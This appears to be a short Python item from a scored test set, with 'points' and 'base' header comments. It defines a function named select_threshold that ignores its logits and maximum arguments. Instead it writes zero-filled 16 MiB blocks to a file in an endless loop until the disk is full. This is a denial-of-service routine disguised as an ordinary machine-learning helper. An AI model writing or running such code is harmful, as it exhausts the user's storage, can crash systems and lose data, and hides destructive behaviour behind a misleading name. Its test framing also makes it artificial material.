# Writes one file until the disk is full.
# points: 97
# base: right
# %% select_threshold
def select_threshold(logits, maximum):
    with open("full", "wb") as file:
        while True:
            file.write(b"\0" * 2 ** 24)
            file.flush()
